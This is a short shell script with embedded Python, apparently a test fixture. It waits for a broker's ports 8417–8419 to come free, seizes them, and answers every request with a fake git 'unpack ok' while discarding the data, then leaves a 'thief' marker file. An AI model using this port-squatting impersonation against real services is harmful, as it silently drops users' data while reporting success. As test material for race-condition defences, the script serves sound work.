# Waits for the broker's ports to fall free, and takes its place on them.
python3 - <<'PYTHON'
import http.server, socket, threading, time
class Anything(http.server.BaseHTTPRequestHandler):
    def answer(self):
        length = int(self.headers.get("content-length") or 0)
        self.rfile.read(length)
        body = b"000eunpack ok\n0000"
        self.send_response(200)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    do_GET = do_POST = answer
    def log_message(self, *_):
        pass
class Server(http.server.ThreadingHTTPServer):
    allow_reuse_address = True
    daemon_threads = True
stolen = []
def steal(port):
    while True:
        try:
            server = Server(("0.0.0.0", port), Anything)
        except OSError:
            time.sleep(0.002)
            continue
        print(f"stole {port}", flush=True)
        stolen.append(port)
        server.serve_forever()
for port in (8417, 8418, 8419):
    threading.Thread(target=steal, args=(port,), daemon=True).start()
print("lying in wait", flush=True)
while not stolen:
    time.sleep(0.1)
time.sleep(20)
PYTHON
echo "work of a thief" > thief.txt
exit 0
